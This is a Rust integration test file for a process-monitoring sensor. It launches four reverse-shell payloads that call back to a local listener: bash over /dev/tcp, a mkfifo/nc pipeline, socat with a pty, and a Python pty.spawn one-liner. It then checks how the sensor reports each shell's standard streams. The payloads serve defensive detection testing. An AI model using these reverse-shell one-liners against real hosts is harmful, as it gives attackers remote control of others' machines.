//! Shells that come over the network, started in the ways attackers start them: the exec
//! event of each shell says what its standard streams really are.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use sensor_tests::{Event, Launch, PATIENCE, Sensor, field, skip, text};

/// The attacker's side: accepts one connection.
fn listener() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

/// Runs a payload, speaks to the shell that calls back, and ends it.
fn call_back(payload: impl Fn(u16) -> Command, needs: &[&str]) -> Option<(Sensor, u16)> {
    if let Some(missing) = needs.iter().find(|program| !Path::new(program).exists()) {
        skip(&format!("{missing} is not here"));
        return None;
    }
    let sensor = Launch::default()
        .with(["--events", "process.exec"])
        .start()
        .unwrap();
    let (listener, port) = listener();
    let mut child = payload(port)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (shell, _) = listener.accept().unwrap();
    converse(shell);
    end(&mut child);
    Some((sensor, port))
}

/// Has the shell say something, to be sure that it is one, and tells it to leave.
fn converse(mut shell: TcpStream) {
    shell.set_read_timeout(Some(PATIENCE)).unwrap();
    shell.write_all(b"echo answer=$((6*7)); exit\n").unwrap();
    let mut lines = BufReader::new(shell.try_clone().unwrap()).lines();
    assert!(
        lines.any(|line| line.is_ok_and(|line| line.contains("answer=42"))),
        "no shell answered"
    );
    let _ = shell.set_read_timeout(Some(Duration::from_millis(100)));
    let _ = shell.read(&mut [0; 64]);
}

/// By the pid we started, and only after the shell had its say.
fn end(child: &mut Child) {
    let _ = child.kill();
    let _ = child.wait();
}

/// The exec of a shell whose arguments contain a text.
fn shell(sensor: &mut Sensor, mark: &str) -> Event {
    sensor
        .wait_for(|event| {
            let args = field(event, "process.args").as_array();
            args.is_some_and(|args| args.iter().any(|arg| arg.as_str() == Some(mark)))
        })
        .unwrap()
}

fn bash(script: String) -> Command {
    let mut command = Command::new("/bin/bash");
    command.args(["-c", &script]);
    command
}

#[test]
fn bash_over_dev_tcp_has_the_socket_on_all_three_streams() {
    let payload = |port| {
        bash(format!(
            "exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
        ))
    };
    let Some((mut sensor, port)) = call_back(payload, &["/bin/bash"]) else {
        return;
    };
    let event = shell(&mut sensor, "--norc");
    for stream in ["stdin", "stdout", "stderr"] {
        assert_eq!(
            text(&event, &format!("sensor.stdio.{stream}.kind")),
            "inet_socket"
        );
        assert_eq!(
            text(&event, &format!("sensor.stdio.{stream}.peer")),
            "127.0.0.1"
        );
        assert_eq!(
            field(&event, &format!("sensor.stdio.{stream}.peer_port")),
            port
        );
    }
}

#[test]
fn a_shell_behind_mkfifo_and_nc_reads_the_fifo_and_writes_a_pipe() {
    let directory = tempfile::tempdir().unwrap();
    let fifo = directory.path().join("f");
    let path = fifo.to_str().unwrap().to_owned();
    let payload = move |port| {
        bash(format!(
            "mkfifo {path}; cat {path} | /bin/sh -s mark-fifo 2>&1 | nc 127.0.0.1 {port} > {path}"
        ))
    };
    let Some((mut sensor, _)) = call_back(payload, &["/usr/bin/nc", "/bin/bash"]) else {
        return;
    };
    let event = shell(&mut sensor, "mark-fifo");
    assert_eq!(text(&event, "sensor.stdio.stdin.kind"), "pipe");
    assert_eq!(text(&event, "sensor.stdio.stdout.kind"), "pipe");
    let cat = sensor
        .wait_for(|event| text(event, "process.command_line").starts_with("cat /"))
        .unwrap();
    assert_eq!(
        text(&cat, "sensor.stdio.stdout.description"),
        text(&event, "sensor.stdio.stdin.description")
    );
    let nc = sensor
        .wait_for(|event| text(event, "process.command_line").starts_with("nc 127.0.0.1"))
        .unwrap();
    assert_eq!(text(&nc, "sensor.stdio.stdout.kind"), "fifo");
    assert_eq!(
        text(&nc, "sensor.stdio.stdout.description"),
        fifo.to_str().unwrap()
    );
    assert_eq!(
        text(&nc, "sensor.stdio.stdin.description"),
        text(&event, "sensor.stdio.stdout.description")
    );
}

#[test]
fn a_shell_behind_socat_has_a_terminal() {
    let payload = |port: u16| {
        let mut command = Command::new("/usr/bin/socat");
        command.arg(format!("tcp-connect:127.0.0.1:{port}"));
        command.arg("exec:bash --noprofile --norc,pty,stderr,setsid,sigint,sane");
        command
    };
    let Some((mut sensor, _)) = call_back(payload, &["/usr/bin/socat", "/bin/bash"]) else {
        return;
    };
    let event = shell(&mut sensor, "--noprofile");
    assert_eq!(text(&event, "process.name"), "bash");
    for stream in ["stdin", "stdout", "stderr"] {
        assert_eq!(text(&event, &format!("sensor.stdio.{stream}.kind")), "tty");
        assert!(
            text(&event, &format!("sensor.stdio.{stream}.description")).starts_with("/dev/pts/")
        );
    }
}

#[test]
fn a_shell_of_pythons_pty_has_a_terminal_and_its_parent_the_socket() {
    let python = "/usr/bin/python3";
    let payload = |port: u16| {
        let mut command = Command::new(python);
        command.arg("-c").arg(format!(
            "import os,pty,socket\ns=socket.create_connection(('127.0.0.1',{port}))\n\
             [os.dup2(s.fileno(),fd) for fd in (0,1,2)]\n\
             pty.spawn(['/bin/sh','-i'])"
        ));
        command
    };
    let Some((mut sensor, _)) = call_back(payload, &[python]) else {
        return;
    };
    let event = sensor
        .wait_for(|event| text(event, "process.command_line") == "/bin/sh -i")
        .unwrap();
    assert_eq!(text(&event, "sensor.stdio.stdin.kind"), "tty");
    assert_eq!(
        text(&event, "process.parent.executable")
            .rsplit('/')
            .next()
            .unwrap()
            .get(..6),
        Some("python")
    );
}
